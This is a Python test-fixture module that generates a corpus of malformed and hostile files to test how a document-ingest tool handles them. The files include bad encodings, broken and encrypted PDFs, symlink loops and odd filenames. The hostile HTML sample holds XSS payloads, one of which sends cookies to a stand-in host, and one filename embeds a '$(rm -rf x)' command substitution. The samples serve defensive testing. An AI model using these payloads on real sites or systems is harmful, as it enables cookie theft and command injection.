"""Writes the hostile corpus: every kind of broken, odd or malicious input ingest must survive.

Generated at test time (no binaries are committed). ``make_corpus(root)`` returns
``{case name: path}``; ``EXPECTED`` says what must happen to each case. Run as a
script to write the corpus to a folder: ``python -m tests.hostile.make_corpus DIR``.
"""

from __future__ import annotations

import io
import os
import stat
import sys
from pathlib import Path

ARTICLE = (
    "Fighters attack convoy near Ménaka\n\n"
    "Fighters of the Islamic State Sahel Province attacked a military convoy near Ménaka on 12 March 2024, "
    "killing at least 14 soldiers, the army said in a statement.\n\n"
    "The group, led by Abu al-Bara al-Sahraoui, has expanded its operations across the border with Niger "
    "since 2022. Local officials said the attackers used motorbikes and fled toward the Algerian border.\n\n"
    "A spokesman for the governor’s office in Gao confirmed the toll and said reinforcements were sent.\n"
)
ARABIC = (
    "هاجم مسلحون قافلة عسكرية قرب مدينة ميناكا في شمال مالي يوم الثلاثاء، وقتلوا أربعة عشر جنديا على الأقل. "
    "وقالت السلطات المحلية إن المهاجمين فروا نحو الحدود مع النيجر بعد الهجوم.\n\n"
    "وأكد متحدث باسم مكتب الحاكم في غاو الحصيلة وقال إن تعزيزات أرسلت إلى المنطقة.\n"
)
TURKISH = (
    "Silahlı kişiler Mali'nin kuzeyindeki Menaka kenti yakınında bir askeri konvoya saldırdı ve en az on dört "
    "askeri öldürdü. Yerel yetkililer saldırganların Nijer sınırına doğru kaçtığını söyledi.\n"
)
LATIN1_TEXT = (
    "Réunion à Ménaka\n\nLes représentants des communautés se sont réunis à Ménaka pour évoquer la sécurité "
    "après l'attaque du convoi. Le préfet a déclaré que la situation était « très préoccupante ».\n"
)
CP1252_TEXT = (
    "Convoy attack – what we know\n\nThe army’s statement said “at least 14” soldiers were killed near "
    "Ménaka; the governor’s office confirmed the toll… Reinforcements were sent on Wednesday.\n"
)
HOSTILE_HTML = """<!doctype html><html><head><title>Raid on the market in Gao</title>
<script>alert('xss'); document.location='http://evil.invalid/?c='+document.cookie</script>
<style>body { background: url('javascript:alert(1)') }</style></head>
<body><nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article><h1>Raid on the market in Gao</h1>
<p>Gunmen raided the central market of Gao on Friday, burning stalls and abducting two traders, witnesses
said. The army sent a patrol to the area.</p>
<iframe src="http://evil.invalid/frame" onload="alert(2)"></iframe>
<svg onload="alert(3)"><script>alert(4)</script><text>SVGTEXT</text></svg>
<p>Local officials blamed fighters loyal to the Islamic State Sahel Province, which has attacked the town
several times this year. <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+" onerror="alert(6)">
<a href="data:text/html,<script>alert(7)</script>">details</a> <a href="javascript:alert(8)">more</a></p>
<p>Traders said the market would reopen next week under police protection.</p>
</article><footer>© Example News</footer></body></html>
"""

# case -> (expected status, a word the refusal reason must contain, or "" for any)
EXPECTED: dict[str, tuple[str, str]] = {
    "empty": ("refused", "empty"),
    "whitespace_only": ("refused", "empty"),
    "binary_as_txt": ("refused", "binary"),
    "utf16_bom": ("ingested", ""),
    "utf16_no_bom": ("ingested", ""),
    "latin1": ("ingested", ""),
    "cp1252": ("ingested", ""),
    "invalid_utf8": ("ingested", ""),
    "nested_html": ("refused", "nested"),
    "hostile_html": ("ingested", ""),
    "truncated_pdf": ("refused", "PDF"),
    "encrypted_pdf": ("refused", "encrypted"),
    "no_text_pdf": ("refused", "text layer"),
    "text_pdf": ("ingested", ""),
    "symlink_loop": ("refused", ""),
    "dangling_symlink": ("refused", ""),
    "fifo": ("refused", "regular file"),
    "unreadable": ("refused", "read"),  # as root this one is readable: see make_corpus
    "article_a": ("ingested", ""),
    "article_b_same_bytes": ("duplicate", ""),
    "article_c_other_encoding": ("duplicate", ""),
    "odd_name": ("ingested", ""),
    "long_name": ("ingested", ""),
    "bad_bytes_name": ("ingested", ""),
    "arabic": ("ingested", ""),
    "turkish": ("ingested", ""),
    "folder_named_txt": ("refused", "empty"),  # a folder called folder.txt is walked: its empty inside.md
}


def _pdf_with_text(lines: list[str]) -> bytes:
    """A one-page PDF with a text layer, written with pypdf around a minimal content stream."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): DictionaryObject(
        {NameObject("/F1"): writer._add_object(font)})})
    ops = " ".join(f"({line}) Tj 0 -16 Td" for line in lines)
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 72 720 Td {ops} ET".encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _blank_pdf(password: str | None = None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _encrypted_text_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_with_text(["A secret report on armed groups."]))))
    writer.encrypt("pw")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def make_corpus(root: Path, huge_mb: int = 0) -> dict[str, Path]:
    """Write the corpus under ``root``; ``huge_mb`` > 0 adds a single-line text of that many MB."""
    root.mkdir(parents=True, exist_ok=True)
    cases: dict[str, Path] = {}

    def put(name: str, filename: str | bytes, data: bytes) -> Path:
        path = Path(os.fsdecode(os.path.join(os.fsencode(root), os.fsencode(filename))))
        path.write_bytes(data)
        cases[name] = path
        return path

    put("empty", "empty.txt", b"")
    put("whitespace_only", "blank.md", b"  \n\n\t \n")
    put("binary_as_txt", "photo.txt", bytes(range(256)) * 64 + b"\x89PNG\r\n\x1a\n\x00\x00")
    put("utf16_bom", "utf16-bom.txt", "\ufeff".encode("utf-16-le") + ARTICLE.replace("Ménaka", "Ansongo")
        .encode("utf-16-le"))
    put("utf16_no_bom", "utf16-nobom.txt", ARTICLE.replace("Ménaka", "Tessit").encode("utf-16-le"))
    put("latin1", "latin1.txt", LATIN1_TEXT.encode("latin-1"))
    put("cp1252", "cp1252.txt", CP1252_TEXT.encode("cp1252"))
    put("invalid_utf8", "invalid-utf8.txt", ARTICLE.replace("Ménaka", "Labbezanga").encode("utf-8")
        + b"\n\nTrailing bytes \xff\xfe\xc3\x28 and \xed\xa0\x80 done.\n")
    put("nested_html", "nested.html", b"<html><body>" + b"<div>" * 10_000 + b"deep text" + b"</div>" * 10_000
        + b"</body></html>")
    put("hostile_html", "hostile.html", HOSTILE_HTML.encode("utf-8"))
    good_pdf = _pdf_with_text(["Armed groups attacked Menaka on 12 March 2024.",
                               "At least 14 soldiers were killed, the army said."])
    put("text_pdf", "report.pdf", good_pdf)
    put("truncated_pdf", "truncated.pdf", good_pdf[: len(good_pdf) // 2])
    put("encrypted_pdf", "encrypted.pdf", _encrypted_text_pdf())
    put("no_text_pdf", "scanned.pdf", _blank_pdf())

    loop = root / "loop.txt"
    os.symlink("loop2.txt", loop)
    os.symlink("loop.txt", root / "loop2.txt")
    cases["symlink_loop"] = loop
    dangling = root / "dangling.txt"
    os.symlink("does-not-exist.txt", dangling)
    cases["dangling_symlink"] = dangling
    fifo = root / "pipe.txt"
    os.mkfifo(fifo)
    cases["fifo"] = fifo
    unreadable = put("unreadable", "unreadable.txt", b"You should not be able to read this text at all.\n")
    os.chmod(unreadable, 0)
    weird_dir = root / "folder.txt"  # a directory with a text suffix, named on the command line
    weird_dir.mkdir()
    (weird_dir / "inside.md").write_bytes(b"")  # something inside, so a walk sees it too
    cases["folder_named_txt"] = weird_dir

    # One article, three names, two encodings: one ingested, two duplicates of it.
    put("article_a", "article-a.txt", ARTICLE.encode("utf-8"))
    put("article_b_same_bytes", "article-b-copy.txt", ARTICLE.encode("utf-8"))
    put("article_c_other_encoding", "article-c-latin.txt", ARTICLE.encode("cp1252"))

    put("odd_name", "[red]rapport – «Ménaka» \u202egnp.txt\u202c ; $(rm -rf x) \t\n.txt",
        ARTICLE.replace("Ménaka", "Tillabéri").encode())
    put("long_name", "r" * 251 + ".txt", ARTICLE.replace("Ménaka", "Kidal").encode())
    put("bad_bytes_name", b"bad-\xff\xfe-name.txt", ARTICLE.replace("Ménaka", "Bourem").encode())
    put("arabic", "arabic.txt", ARABIC.encode("utf-8"))
    put("turkish", "turkish.txt", TURKISH.encode("utf-8"))
    if huge_mb:
        cases["huge_single_line"] = write_huge(root / "huge.txt", huge_mb)
    return cases


def write_huge(path: Path, megabytes: int) -> Path:
    """A single line of ``megabytes`` MB of prose-like text (no newline until the end)."""
    sentence = ("Fighters attacked a convoy near Ménaka on 12 March 2024, killing 14 soldiers, "
                "the army said. ").encode()
    with path.open("wb") as fh:
        written = 0
        target = megabytes * 1024 * 1024
        block = sentence * 4096
        while written < target:
            chunk = block[: target - written]
            fh.write(chunk)
            written += len(chunk)
        fh.write(b"\n")
    return path


def running_as_root() -> bool:
    return hasattr(os, "geteuid") and os.geteuid() == 0


def is_unreadable(path: Path) -> bool:
    try:
        with path.open("rb"):
            return False
    except OSError:
        return True


def is_fifo(path: Path) -> bool:
    return stat.S_ISFIFO(os.lstat(path).st_mode)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for name, path in make_corpus(target, huge_mb=int(sys.argv[2]) if len(sys.argv) > 2 else 0).items():
        print(f"{name}\t{path}")
